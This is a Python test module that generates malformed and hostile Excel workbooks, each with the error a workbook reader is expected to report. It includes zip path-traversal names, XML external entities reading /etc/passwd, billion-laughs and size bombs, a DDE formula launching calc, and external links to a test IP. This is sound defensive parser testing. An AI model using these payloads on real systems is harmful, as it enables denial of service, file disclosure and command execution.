"""The hostile and broken workbooks themselves, each with what must become of it."""
# ruff: noqa: E501 - a workbook reads better unbroken
# mypy: disable-error-code="misc"
# mypy infers no type for the functions that keep a loop's value in a default.

from __future__ import annotations

import io
import re
import struct
import zipfile
from collections.abc import Iterator

from tests.tools.hostile import (
    AS_TYPED,
    BINS,
    HEAD,
    HEADERS,
    INDICATORS_SHEET,
    MAIN,
    OFFICE,
    RELATIONS,
    REPORT,
    REPORT_SHEET,
    SHARED,
    STYLES,
    VISITS,
    WORKBOOK,
    Hostile,
    cell,
    changed,
    content_types,
    damaged,
    good,
    indicator_rows,
    letters,
    ole,
    package,
    relations,
    report_rows,
    row,
    shared,
    sheet,
    typed,
    with_field,
    with_part,
    with_row_xml,
    with_rows,
    with_value,
    without,
    workbook_part,
)

LONGEST_NAME = 1_000
"""Characters of a name; a longer one is refused with its cell."""
LONGEST = 32_767


def hostile_books() -> Iterator[Hostile]:
    """Every one of them."""
    yield from zips()
    yield from other_files()
    yield from missing_parts()
    yield from relationships()
    yield from xml_faults()
    yield from bombs()
    yield from sheets()
    yield from cells()
    yield from workbooks()
    yield from texts()
    yield from names()
    yield from sizes()


# Zip files


def zips() -> Iterator[Hostile]:
    """Faults of the zip file itself."""
    whole = package(good())
    yield Hostile("empty file", lambda: b"", ("the file is empty",))
    yield Hostile("noise", lambda: bytes(range(256)) * 40, ("not an Excel workbook",))
    yield Hostile("nulls", lambda: bytes(10_000), ("not an Excel workbook",))
    yield Hostile("zip signature only", lambda: b"PK\x03\x04", ("damaged or incomplete",))
    yield Hostile("empty zip", lambda: package({}), ("not an Excel workbook",))
    for tenth in range(1, 11):
        cut = max(1, len(whole) * tenth // 10 - 1)
        yield Hostile(f"truncated at {tenth} tenths", lambda cut=cut: whole[:cut], ("damaged or incomplete",))
    yield Hostile("first half missing", lambda: whole[len(whole) // 2 :], either=True)
    yield Hostile("wrong checksum of the indicators", lambda: _wrong_crc(INDICATORS_SHEET), ("damaged",))
    yield Hostile("wrong checksum of the workbook part", lambda: _wrong_crc(WORKBOOK), ("damaged",))
    yield Hostile("wrong checksum of a picture", lambda: _wrong_crc("xl/media/image1.png"), (), AS_TYPED)
    yield Hostile("one byte turned round", lambda: damaged(whole.index(b"sheet2.xml") + 200, 4), ("damaged",))
    yield Hostile("encrypted zip entries", _encrypted_entries, ("password",))
    yield Hostile("unknown compression", _unknown_compression, ("damaged",))
    yield Hostile("a part twice", _twice, ("twice",))
    yield Hostile("names that climb out of the folder", lambda: with_part("../../evil.xml", b"<x/>"), (), AS_TYPED)
    yield Hostile("absolute names", lambda: with_part("/etc/passwd", b"x"), (), AS_TYPED)
    yield Hostile("names with a drive", lambda: with_part("C:\\Windows\\win.ini", b"x"), (), AS_TYPED)
    yield Hostile("seventy thousand entries", _many_entries, ("far larger than it looks",), alone=True)
    yield Hostile("a zip in a zip", lambda: package({"figures.xlsx": whole}), ("a zip file with a workbook in it",))
    yield Hostile("zip64", _zip64, (), AS_TYPED)
    yield Hostile("stored, not compressed", lambda: package(good(), zipfile.ZIP_STORED), (), AS_TYPED)
    yield Hostile("bzip2", lambda: package(good(), zipfile.ZIP_BZIP2), (), AS_TYPED)
    yield Hostile("a comment at its end", _commented, (), AS_TYPED)
    yield Hostile("data before it", lambda: b"#!/bin/sh\n" * 50 + whole, (), AS_TYPED)
    yield Hostile("data behind it", lambda: whole + bytes(500), (), AS_TYPED)
    yield Hostile("a lie about the size", lambda: _lie(INDICATORS_SHEET, 10), ("damaged",))
    yield Hostile("a lie about the size, upwards", lambda: _lie(INDICATORS_SHEET, 150_000_000), (), AS_TYPED)
    yield Hostile("backslashes in its names", _backslashes, ("Indicators",))
    yield Hostile("names in capitals", _capitals, either=True)


def _wrong_crc(name: str) -> bytes:
    data = bytearray(package(good() | {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(100)}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        crc = struct.pack("<I", archive.getinfo(name).CRC)
    wrong = bytes(255 - byte for byte in crc)
    return bytes(data).replace(crc, wrong)


def _patched(name: str, offset_central: int, offset_local: int, value: bytes) -> bytes:
    """The good workbook with a field of one part's entry overwritten in both directories."""
    data = bytearray(package(good()))
    for signature, offset, start in ((b"PK\x01\x02", offset_central, 46), (b"PK\x03\x04", offset_local, 30)):
        at = data.find(signature)
        while at >= 0:
            if data[at + start : at + start + len(name)] == name.encode():
                data[at + offset : at + offset + len(value)] = value
            at = data.find(signature, at + 4)
    return bytes(data)


def _encrypted_entries() -> bytes:
    data = package(good())
    for name in good():
        data = _flagged(data, name)
    return data


def _flagged(data: bytes, name: str) -> bytes:
    changed_data = bytearray(data)
    for signature, offset, start in ((b"PK\x01\x02", 8, 46), (b"PK\x03\x04", 6, 30)):
        at = changed_data.find(signature)
        while at >= 0:
            if changed_data[at + start : at + start + len(name)] == name.encode():
                changed_data[at + offset] |= 1
            at = changed_data.find(signature, at + 4)
    return bytes(changed_data)


def _unknown_compression() -> bytes:
    return _patched(INDICATORS_SHEET, 10, 8, struct.pack("<H", 99))


def _lie(name: str, size: int) -> bytes:
    return _patched(name, 24, 22, struct.pack("<I", size))


def _twice() -> bytes:
    stream = io.BytesIO(package(good()))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        other = ("1", "Visits made", "Bigger", 12, 99, 15, "Tampered", "", "")
        info = zipfile.ZipInfo(INDICATORS_SHEET)
        archive.writestr(info, sheet(indicator_rows(other)))
    return stream.getvalue()


def _many_entries() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in good().items():
            archive.writestr(zipfile.ZipInfo(name), content)
        for number in range(70_000):
            archive.writestr(zipfile.ZipInfo(f"xl/media/{number}"), b"")
    return stream.getvalue()


def _zip64() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in good().items():
            with archive.open(zipfile.ZipInfo(name), "w", force_zip64=True) as part:
                part.write(content)
    return stream.getvalue()


def _commented() -> bytes:
    stream = io.BytesIO(package(good()))
    with zipfile.ZipFile(stream, "a") as archive:
        archive.comment = b"x" * 60_000
    return stream.getvalue()


def _backslashes() -> bytes:
    # zipfile writes slashes whatever it is given
    data = package(good())
    return data.replace(b"xl/worksheets/sheet2.xml", b"xl\\worksheets\\sheet2.xml")


def _capitals() -> bytes:
    return package({name.upper(): content for name, content in good().items()})


# Files of other kinds under the name of a workbook


def other_files() -> Iterator[Hostile]:
    """Everything that is not an Excel workbook."""
    yield Hostile("encrypted by Excel", lambda: ole("EncryptionInfo", "EncryptedPackage"), ("password",))
    yield Hostile("the old type xls", lambda: ole("Workbook"), ("old type .xls",))
    yield Hostile("an older xls", lambda: b"\x09\x04\x06\x00\x07\x00\x10\x00" + bytes(200), ("not an Excel workbook",))
    yield Hostile("an OLE file cut short", lambda: ole()[:20], ("password, or is of the old type",))
    yield Hostile(
        "xlsb", lambda: package({"[Content_Types].xml": content_types(), "xl/workbook.bin": b"\x83"}), ("xlsb",)
    )
    for kind in ("spreadsheet", "text", "presentation"):
        mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
        yield Hostile(
            f"OpenDocument {kind}",
            lambda mimetype=mimetype: package({"mimetype": mimetype, "content.xml": b"<x/>"}),
            ("OpenDocument",),
        )
    yield Hostile("Word", lambda: package({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}), ("Word",))
    yield Hostile(
        "PowerPoint",
        lambda: package({"[Content_Types].xml": b"<x/>", "ppt/presentation.xml": b"<x/>"}),
        ("PowerPoint",),
    )
    yield Hostile("csv", lambda: b"Ref,Indicator,Polarity\r\n1,Visits,Bigger\r\n", ("not an Excel workbook",))
    yield Hostile("csv in UTF-16", lambda: "Ref,Indicator\n1,Visits\n".encode("utf-16"), ("not an Excel workbook",))
    yield Hostile("a web page", lambda: b"<html><table><tr><td>Visits</td></tr></table></html>", ("not an Excel",))
    yield Hostile(
        "Excel 2003 XML", lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', ("not an",)
    )
    yield Hostile("json", lambda: b'{"indicators": []}', ("not an Excel workbook",))
    yield Hostile("pdf", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", ("not an Excel workbook",))
    yield Hostile("png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), ("not an Excel workbook",))
    yield Hostile("a Mac's link", lambda: b"book\x00\x00\x00\x00mark", ("not an Excel workbook",))
    yield Hostile("gzip", lambda: b"\x1f\x8b\x08\x00" + bytes(100), ("not an Excel workbook",))
    strict = "http://purl.oclc.org/ooxml/spreadsheetml/main"
    yield Hostile("Strict Open XML", lambda: changed(WORKBOOK, MAIN, strict), ("Strict Open XML",))
    yield Hostile("Strict sheets only", lambda: changed(INDICATORS_SHEET, MAIN, strict), either=True)
    main = "spreadsheetml.sheet.main+xml"
    yield Hostile(
        "macros under a plain name",
        lambda: package(
            good()
            | {"[Content_Types].xml": content_types().replace(
                f"application/vnd.openxmlformats-officedocument.{main}".encode(),
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
               "xl/vbaProject.bin": b"\xd0\xcf"}
        ),
        ("macros",),
    )  # fmt: skip
    yield Hostile(
        "an Excel template", lambda: changed("[Content_Types].xml", "sheet.main", "template.main"), (), AS_TYPED
    )


def missing_parts() -> Iterator[Hostile]:
    """The good workbook without one of its parts."""
    yield Hostile("no workbook part", lambda: without(WORKBOOK), ("damaged",))
    yield Hostile("no relationships of the workbook", lambda: without("xl/_rels/workbook.xml.rels"), ("damaged",))
    yield Hostile("no relationships at all", lambda: without("_rels/.rels"), (), AS_TYPED)
    yield Hostile("no content types", lambda: without("[Content_Types].xml"), ("damaged",))
    yield Hostile("no sheet Report", lambda: without(REPORT_SHEET), ("no sheet",))
    yield Hostile("no sheet Indicators", lambda: without(INDICATORS_SHEET), ("no sheet",))
    yield Hostile("no styles", lambda: without(STYLES), (), AS_TYPED)
    yield Hostile("no shared strings", lambda: without(SHARED), ("damaged",))
    yield Hostile("nothing but content types", lambda: package({"[Content_Types].xml": content_types()}), ("not an",))
    for name in (WORKBOOK, "[Content_Types].xml", "xl/_rels/workbook.xml.rels", INDICATORS_SHEET, STYLES, SHARED):
        yield Hostile(f"{name} empty", lambda name=name: with_part(name, b""), ("damaged",))


def relationships() -> Iterator[Hostile]:
    """Relationships that point elsewhere."""
    rels = "xl/_rels/workbook.xml.rels"
    sheet2 = 'Target="worksheets/sheet2.xml"'
    yield Hostile("a sheet that is not there", lambda: changed(rels, "sheet2.xml", "sheet9.xml"), ("no sheet",))
    yield Hostile(
        "a sheet outside the file", lambda: changed(rels, sheet2, 'Target="../../../../etc/passwd"'), ("no sheet",)
    )
    for target in ("http://203.0.113.1/x.xml", "file:///etc/passwd", "\\\\203.0.113.1\\share\\x.xml"):
        yield Hostile(
            f"a sheet at {target.split(':')[0].strip(chr(92))}",
            lambda target=target: changed(rels, sheet2, f'Target="{target}" TargetMode="External"'),
            ("no sheet",),
        )
    yield Hostile(
        "an absolute target", lambda: changed(rels, 'Target="worksheets', 'Target="/xl/worksheets'), (), AS_TYPED
    )
    yield Hostile(
        "a sheet without relationship", lambda: changed(WORKBOOK, 'r:id="rId2"', 'r:id="rId77"'), ("damaged",)
    )
    yield Hostile("two sheets of one part", lambda: changed(rels, "sheet2.xml", "sheet1.xml"), ("Indicators",))
    yield Hostile("a relationship twice", lambda: changed(rels, 'Id="rId3"', 'Id="rId2"'), either=True)
    yield Hostile(
        "a sheet that is the shared strings",
        lambda: changed(rels, "worksheets/sheet2.xml", "sharedStrings.xml"),
        either=True,
    )
    yield Hostile("external links", _external_link, (), AS_TYPED)
    yield Hostile("a remote picture", _remote_picture, (), AS_TYPED)


def _external_link() -> bytes:
    rels = good()["xl/_rels/workbook.xml.rels"].decode()
    more = f'<Relationship Id="rId9" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    link = f'{HEAD}<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="rId1"/></externalLink>'
    target = (
        '<Relationship Id="rId1" Type="{}/externalLinkPath" Target="file:///\\\\host\\x.xlsx" TargetMode="External"/>'
    )
    book = good()[WORKBOOK].decode().replace(
        "</sheets>", '</sheets><externalReferences><externalReference r:id="rId9"/></externalReferences>'
    )  # fmt: skip
    return package(
        good()
        | {
            WORKBOOK: book.encode(),
            "xl/_rels/workbook.xml.rels": rels.replace("</Relationships>", f"{more}</Relationships>").encode(),
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                f'{HEAD}<Relationships xmlns="{RELATIONS}">{target.format(OFFICE)}</Relationships>'.encode()
            ),
        }
    )


def _remote_picture() -> bytes:
    target = f'<Relationship Id="rId1" Type="{OFFICE}/image" Target="http://203.0.113.1/x.png" TargetMode="External"/>'
    return with_part(
        "xl/worksheets/_rels/sheet2.xml.rels",
        f'{HEAD}<Relationships xmlns="{RELATIONS}">{target}</Relationships>'.encode(),
    )


# XML


def xml_faults() -> Iterator[Hostile]:
    """Parts whose XML is at fault."""
    text = good()[INDICATORS_SHEET].decode()
    for name, part in (("Indicators", INDICATORS_SHEET), ("workbook", WORKBOOK), ("shared strings", SHARED),
                       ("styles", STYLES), ("content types", "[Content_Types].xml")):  # fmt: skip
        yield Hostile(f"XML cut short: {name}", lambda part=part: with_part(part, good()[part][:-20]), ("damaged",))
    yield Hostile("no XML at all", lambda: with_part(INDICATORS_SHEET, b"Ref,Indicator"), ("damaged",))
    yield Hostile("a bare ampersand", lambda: changed(INDICATORS_SHEET, "As planned", "A & B"), ("damaged",))
    yield Hostile("a control character in XML", lambda: changed(INDICATORS_SHEET, "As planned", "A\x01B"), ("damaged",))
    yield Hostile("a NUL in XML", lambda: changed(INDICATORS_SHEET, "As planned", "A\x00B"), ("damaged",))
    yield Hostile(
        "a lone surrogate in XML",
        lambda: with_part(INDICATORS_SHEET, text.replace("As planned", "A\ud800B").encode("utf-8", "surrogatepass")),
        ("damaged",),
    )
    yield Hostile("not letters in XML", lambda: changed(INDICATORS_SHEET, "As planned", "A\ufffeB"), ("damaged",))
    yield Hostile(
        "Latin 1 said to be UTF-8",
        lambda: with_part(INDICATORS_SHEET, text.replace("As planned", "Caf\u00e9").encode("latin-1")),
        ("damaged",),
    )
    yield Hostile("an unknown encoding", lambda: changed(INDICATORS_SHEET, "UTF-8", "klingon"), ("damaged",))
    yield Hostile(
        "UTF-16", lambda: with_part(INDICATORS_SHEET, text.replace("UTF-8", "UTF-16").encode("utf-16")), (), AS_TYPED
    )
    yield Hostile("a byte order mark", lambda: with_part(INDICATORS_SHEET, text.encode("utf-8-sig")), (), AS_TYPED)
    yield Hostile(
        "another encoding, declared",
        lambda: with_part(
            INDICATORS_SHEET, text.replace("UTF-8", "ISO-8859-1").replace("As planned", "Caf\u00e9").encode("latin-1")
        ),
        (),
        ("Caf\u00e9",),
    )
    yield Hostile(
        "remarks and instructions",
        lambda: changed(INDICATORS_SHEET, "<sheetData>", "<!-- x --><?php x ?><sheetData>"),
        (),
        AS_TYPED,
    )
    yield Hostile("CDATA", lambda: changed(INDICATORS_SHEET, ">As planned<", "><![CDATA[As planned]]><"), (), AS_TYPED)
    yield Hostile("a prefix of its own", lambda: with_part(INDICATORS_SHEET, _prefixed(text)), (), AS_TYPED)
    yield Hostile("no namespace", lambda: changed(INDICATORS_SHEET, f' xmlns="{MAIN}"', ""), ("Indicators",))
    yield Hostile("a root of another kind", lambda: with_part(INDICATORS_SHEET, b"<html/>"), ("Indicators",))
    for part, name in ((WORKBOOK, "workbook"), (SHARED, "shared strings"), (INDICATORS_SHEET, "Indicators")):
        yield Hostile(
            f"entities in {name}",
            lambda part=part: with_part(part, _dtd(part, '<!ENTITY a "Tampered">')),
            ("document type",),
        )
        yield Hostile(
            f"an external entity in {name}",
            lambda part=part: with_part(part, _dtd(part, '<!ENTITY a SYSTEM "file:///etc/passwd">')),
            ("document type",),
        )


def _prefixed(text: str) -> bytes:
    return re.sub(r"<(/?)([a-zA-Z])", r"<\1x:\2", text).replace("xmlns=", "xmlns:x=").encode()


def _dtd(part: str, declarations: str, use: str = "&a;") -> bytes:
    """A part with a document type, and its entity used in a text of the part."""
    text = good()[part].decode()
    for word in ("As planned", "Visits made"):
        text = text.replace(word, f"{word} {use}", 1)
    if part == WORKBOOK:
        text = text.replace('name="Report"', f'name="Report{use}"')
    return text.replace("?>\n", f"?>\n<!DOCTYPE x [{declarations}]>\n", 1).encode()


def bombs() -> Iterator[Hostile]:
    """Small files that would grow."""
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    for part, name in (
        (SHARED, "shared strings"),
        (INDICATORS_SHEET, "Indicators"),
        (WORKBOOK, "workbook"),
        (STYLES, "styles"),
    ):
        yield Hostile(
            f"a billion laughs in {name}",
            lambda part=part: with_part(part, _laughing(part, laughs)),
            ("document type",),
            alone=True,
        )
    quadratic = f'<!ENTITY a "{"x" * 50_000}">'
    yield Hostile(
        "one entity very often",
        lambda: with_part(INDICATORS_SHEET, _dtd(INDICATORS_SHEET, quadratic, "&a;" * 20_000)),
        ("document type",),
        alone=True,
    )
    yield Hostile("zeros", lambda: with_part("xl/media/image1.bin", bytes(201_000_000)), ("far larger",), alone=True)
    yield Hostile("zeros for shared strings", lambda: with_part(SHARED, bytes(190_000_000)), ("damaged",), alone=True)
    yield Hostile(
        "zeros for content types",
        lambda: with_part("[Content_Types].xml", bytes(190_000_000)),
        ("damaged",),
        alone=True,
    )
    yield Hostile(
        "spaces in a sheet",
        lambda: changed(INDICATORS_SHEET, "<sheetData>", " " * 150_000_000 + "<sheetData>"),
        ("far larger",),
        alone=True,
    )
    yield Hostile(
        "an attribute of a hundred million letters",
        lambda: changed(INDICATORS_SHEET, "<sheetData>", f'<sheetPr x="{"a" * 100_000_000}"/><sheetData>'),
        ("far larger",),
        alone=True,
    )
    yield Hostile(
        "a text of a hundred million letters",
        lambda: changed(INDICATORS_SHEET, "As planned", "a" * 100_000_000),
        ("far larger",),
        alone=True,
    )
    yield Hostile(
        "deep nesting",
        lambda: changed(INDICATORS_SHEET, "<sheetData>", "<a>" * 100_000 + "</a>" * 100_000 + "<sheetData>"),
        ("too deeply",),
        alone=True,
    )
    yield Hostile(
        "deep nesting in the workbook part",
        lambda: changed(WORKBOOK, "<sheets>", "<a>" * 100_000 + "</a>" * 100_000 + "<sheets>"),
        ("too deeply",),
        alone=True,
    )
    yield Hostile(
        "deep nesting in a cell",
        lambda: changed(INDICATORS_SHEET, '<t xml:space="preserve">As planned</t>', "<r>" * 100_000 + "</r>" * 100_000),
        ("too deeply",),
        alone=True,
    )
    yield Hostile(
        "deep nesting in the styles",
        lambda: changed(STYLES, "<fonts ", "<x>" * 100_000 + "</x>" * 100_000 + "<fonts "),
        ("too deeply",),
        alone=True,
    )
    yield Hostile(
        "millions of shared strings",
        lambda: with_part(SHARED, f'<sst xmlns="{MAIN}">{"<si><t>a</t></si>" * 5_000_000}</sst>'.encode()),
        ("far larger",),
        alone=True,
    )
    yield Hostile(
        "a million styles",
        lambda: changed(STYLES, '<xf/><xf numFmtId="9"', "<xf/>" * 1_000_000 + '<xf numFmtId="9"'),
        ("far larger",),
        alone=True,
    )
    yield Hostile(
        "a million number formats",
        lambda: changed(
            STYLES,
            '<numFmts count="1">',
            "<numFmts>" + "".join(f'<numFmt numFmtId="{n}" formatCode="0.{n}"/>' for n in range(200, 500_200)),
        ),
        ("far larger",),
        alone=True,
    )
    yield Hostile(
        "a million names",
        lambda: with_part(
            WORKBOOK,
            workbook_part(("Report", "Indicators")).replace(
                b"</sheets>",
                b"</sheets><definedNames>"
                + b"".join(b'<definedName name="n%d">1</definedName>' % n for n in range(300_000))
                + b"</definedNames>",
            ),
        ),
        ("far larger",),
        alone=True,
    )
    yield Hostile(
        "a million content types",
        lambda: changed(
            "[Content_Types].xml",
            "</Types>",
            "".join(f'<Override PartName="/x{n}" ContentType="x"/>' for n in range(500_000)) + "</Types>",
        ),
        ("far larger",),
        alone=True,
    )
    yield Hostile("the longest text in ten thousand cells", _long_shared, ("Indicators",), alone=True)


def _laughing(part: str, laughs: str) -> bytes:
    return _dtd(part, laughs, "&a9;")


def _long_shared() -> bytes:
    rows = "".join(
        f'<row r="{n}"><c r="B{n}" t="s"><v>0</v></c><c r="C{n}" t="s"><v>0</v></c></row>' for n in range(4, 4_900)
    )
    return package(
        good() | {SHARED: shared("long " * 200_000), INDICATORS_SHEET: sheet(indicator_rows(VISITS, BINS) + rows)}
    )


# Sheets and cells


def sheets() -> Iterator[Hostile]:
    """Sheets of odd shapes."""
    for size in ("A1:XFD1048576", "A1", "Z99:A1", "nonsense", ""):
        yield Hostile(
            f"dimension {size or 'empty'}",
            lambda size=size: changed(INDICATORS_SHEET, "<sheetData>", f'<dimension ref="{size}"/><sheetData>'),
            (),
            AS_TYPED,
        )
    yield Hostile(
        "a cell in the farthest corner",
        lambda: with_row_xml(f'<row r="1048576">{cell("XFD1048576", "far")}</row>'),
        (),
        AS_TYPED,
    )
    yield Hostile(
        "a cell beyond the farthest corner",
        lambda: with_row_xml(f'<row r="99999999">{cell("ZZZZ99999999", "far")}</row>'),
        either=True,
    )
    yield Hostile(
        "a million formatted blank rows",
        lambda: with_row_xml("".join(f'<row r="{n}" s="1" customFormat="1" ht="15"/>' for n in range(4, 1_000_004))),
        (),
        AS_TYPED,
        alone=True,
    )
    yield Hostile(
        "blank formatted cells",
        lambda: with_row_xml(
            "".join(
                f'<row r="{n}">' + "".join(f'<c r="{letters(at)}{n}" s="1"/>' for at in range(40)) + "</row>"
                for n in range(4, 5_004)
            )
        ),
        (),
        AS_TYPED,
        alone=True,
    )
    yield Hostile(
        "blank formatted cells in all columns",
        lambda: with_row_xml(
            "".join(
                f'<row r="{n}">' + "".join(f'<c r="{letters(at)}{n}" s="1"/>' for at in range(16_384)) + "</row>"
                for n in range(4, 60)
            )
        ),
        ("Indicators: the sheet is far larger",),
        alone=True,
    )
    yield Hostile(
        "sixteen thousand columns",
        lambda: with_row_xml(f'<row r="4">{"".join(cell(f"{letters(at)}4", "x") for at in range(16_384))}</row>'),
        ("Indicators",),
        alone=True,
    )
    yield Hostile(
        "sixteen thousand headers",
        lambda: with_part(INDICATORS_SHEET, sheet(row(1, [*HEADERS, *("Note",) * 16_000]) + row(2, VISITS))),
        ("Indicators",),
        alone=True,
    )
    backwards = row(1, HEADERS) + row(3, BINS) + row(2, VISITS)
    yield Hostile("rows out of order", lambda: with_part(INDICATORS_SHEET, sheet(backwards)), ("Indicators",))
    yield Hostile(
        "a row twice", lambda: with_row_xml(row(3, ("3", "Third", "Bigger", 1, 2, 3, "", "", ""))), ("Indicators",)
    )
    yield Hostile(
        "a cell twice",
        lambda: changed(INDICATORS_SHEET, '<c r="E2"><v>14</v></c>', '<c r="E2"><v>14</v></c><c r="E2"><v>99</v></c>'),
        ("a cell E2 in row 2",),
    )
    yield Hostile(
        "cells out of order",
        lambda: changed(
            INDICATORS_SHEET,
            '<c r="D2"><v>12</v></c><c r="E2"><v>14</v></c>',
            '<c r="E2"><v>14</v></c><c r="D2"><v>12</v></c>',
        ),
        ("Indicators",),
    )
    yield Hostile(
        "a cell in another row", lambda: changed(INDICATORS_SHEET, '<c r="E2">', '<c r="E3">'), ("Indicators",)
    )
    yield Hostile(
        "no places at all", lambda: with_part(INDICATORS_SHEET, _placeless(good()[INDICATORS_SHEET])), (), AS_TYPED
    )
    yield Hostile("places in small letters", lambda: changed(INDICATORS_SHEET, 'r="E2"', 'r="e2"'), either=True)
    for place in ("", "2E", "$E$2", "E2:F2", "R2C5", "E", "22", "E0", "E-2", "\u0395\u0662"):
        yield Hostile(
            f"a cell at {place or 'nowhere'}",
            lambda place=place: changed(INDICATORS_SHEET, '<c r="E2">', f'<c r="{place}">'),
            either=True,
        )
    for number in ("0", "-1", "x", "1.5", "99999999999999999999"):
        yield Hostile(
            f"row {number}",
            lambda number=number: changed(INDICATORS_SHEET, '<row r="2">', f'<row r="{number}">'),
            either=True,
        )
    yield Hostile(
        "formatting without end",
        lambda: with_part(
            INDICATORS_SHEET,
            sheet(
                indicator_rows(VISITS, BINS),
                after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
            ),
        ),
        either=True,
    )
    yield Hostile(
        "merged nonsense",
        lambda: with_part(
            INDICATORS_SHEET,
            sheet(indicator_rows(VISITS, BINS), after='<mergeCells><mergeCell ref="nonsense"/></mergeCells>'),
        ),
        ("damaged",),
    )
    yield Hostile("no rows", lambda: with_part(INDICATORS_SHEET, sheet("")), ("Indicators", "empty"))
    yield Hostile("headers only", lambda: with_part(INDICATORS_SHEET, sheet(row(1, HEADERS))), ("no indicator",))
    yield Hostile(
        "sheet data twice",
        lambda: changed(
            INDICATORS_SHEET,
            "</sheetData>",
            f"</sheetData><sheetData>{row(2, ('1', 'Tampered', 'Bigger', 1, 2, 3))}</sheetData>",
        ),
        ("Indicators",),
    )


def _placeless(part: bytes) -> bytes:
    text = re.sub(r' r="[A-Z]*\d+"', "", part.decode())
    return text.encode()


def cells() -> Iterator[Hostile]:
    """Cells of odd kinds; the third indicator, Odd one, has the cell as its value in E4."""
    place = ("Indicators!E4",)
    for index in ("7", "-1", "x", "", "99999999999999999999", "1.5"):
        yield Hostile(
            f"shared string {index or 'without number'}",
            lambda index=index: with_value(f'<c r="E4" t="s"><v>{index}</v></c>'),
            either=True,
        )
    yield Hostile("shared string 0", lambda: with_value('<c r="E4" t="s"><v>0</v></c>'), place, AS_TYPED)
    for style in ("99", "-1", "x", "1000000000000"):
        yield Hostile(
            f"style {style}", lambda style=style: with_value(f'<c r="E4" s="{style}"><v>14</v></c>'), either=True
        )
    yield Hostile("unknown kind of cell", lambda: with_value('<c r="E4" t="zz"><v>14</v></c>'), either=True)
    for number in (
        "1E400",
        "-1E400",
        "NaN",
        "INF",
        "1e-400",
        "1" * 5_000,
        "0x1F",
        "1,5",
        "fourteen",
        " 14 ",
        "14 15",
        "1_4",
        "\u0661\u0664",
        "+-1",
        "1e999999999",
    ):
        yield Hostile(
            f"number {number[:20]!r}", lambda number=number: with_value(f'<c r="E4"><v>{number}</v></c>'), either=True
        )
    for day in ("-1", "0", "60", "2958466", "1e15", "NaN"):
        yield Hostile(f"date {day}", lambda day=day: with_value(f'<c r="E4" s="2"><v>{day}</v></c>'), either=True)
    for day in ("2017-13-45", "0000-00-00", "yesterday", "2017-07-16T25:00:00", "9999999-01-01"):
        yield Hostile(f"ISO date {day}", lambda day=day: with_value(f'<c r="E4" t="d"><v>{day}</v></c>'), either=True)
    yield Hostile(
        "1904 dates",
        lambda: with_part(WORKBOOK, workbook_part(("Report", "Indicators"), '<workbookPr date1904="1"/>')),
        (),
        AS_TYPED,
    )
    for truth in ("1", "0", "2", "x", "true"):
        yield Hostile(
            f"truth {truth}", lambda truth=truth: with_value(f'<c r="E4" t="b"><v>{truth}</v></c>'), either=True
        )
    for fault in ("#DIV/0!", "#REF!", "#N/A", "#SPILL!", "#WHAT?", "", "14"):
        yield Hostile(
            f"error {fault or 'without name'}",
            lambda fault=fault: with_value(f'<c r="E4" t="e"><v>{fault}</v></c>'),
            either=True,
        )
    rich = '<is><r><t>1</t></r><r><rPr><b/></rPr><t>4</t></r><rPh sb="0" eb="1"><t>99</t></rPh></is>'
    yield Hostile(
        "rich text with a reading aid", lambda: with_value(f'<c r="E4" t="inlineStr">{rich}</c>'), (), AS_TYPED
    )
    yield Hostile(
        "an inline text and a value",
        lambda: with_value('<c r="E4" t="inlineStr"><v>99</v><is><t>14</t></is></c>'),
        either=True,
    )
    yield Hostile("two values", lambda: with_value('<c r="E4"><v>14</v><v>99</v></c>'), either=True)
    yield Hostile("no value", lambda: with_value('<c r="E4"></c>'), (), AS_TYPED)
    yield Hostile(
        "a formula never calculated",
        lambda: with_value('<c r="E4"><f>D4*2</f></c>'),
        (*place, "open the workbook in Excel, save it"),
        AS_TYPED,
    )
    yield Hostile(
        "a call to a program", lambda: with_value("<c r=\"E4\"><f>cmd|' /C calc'!A0</f></c>"), place, AS_TYPED
    )
    yield Hostile(
        "a formula that reads the web",
        lambda: with_value('<c r="E4"><f>WEBSERVICE("http://203.0.113.1")</f><v>14</v></c>'),
        (),
        AS_TYPED,
    )
    yield Hostile(
        "a formula of a million letters",
        lambda: with_value(f'<c r="E4"><f>{"1+" * 500_000}1</f><v>14</v></c>'),
        (),
        AS_TYPED,
    )
    yield Hostile(
        "a shared formula without its master",
        lambda: with_value('<c r="E4"><f t="shared" si="7"/><v>14</v></c>'),
        (),
        AS_TYPED,
    )
    yield Hostile(
        "a shared formula of nonsense",
        lambda: with_value('<c r="E4"><f t="shared" si="0" ref="E4:XFD1048576">((((</f><v>14</v></c>'),
        (),
        AS_TYPED,
    )
    yield Hostile(
        "an array formula of nonsense",
        lambda: with_value('<c r="E4"><f t="array" ref="nonsense">{1}</f><v>14</v></c>'),
        (),
        AS_TYPED,
    )
    yield Hostile(
        "a table formula",
        lambda: with_value('<c r="E4"><f t="dataTable" ref="E4" r1="A1"/><v>14</v></c>'),
        (),
        AS_TYPED,
    )


# Workbooks


def workbooks() -> Iterator[Hostile]:
    """Workbooks with odd sheets."""
    yield Hostile("no sheets", lambda: with_part(WORKBOOK, workbook_part(())), ("Report",))
    yield Hostile("only a chart sheet", _chart_sheet, ("damaged",))
    yield Hostile(
        "hidden sheets",
        lambda: changed(WORKBOOK, 'name="Indicators"', 'name="Indicators" state="veryHidden"'),
        (),
        AS_TYPED,
    )
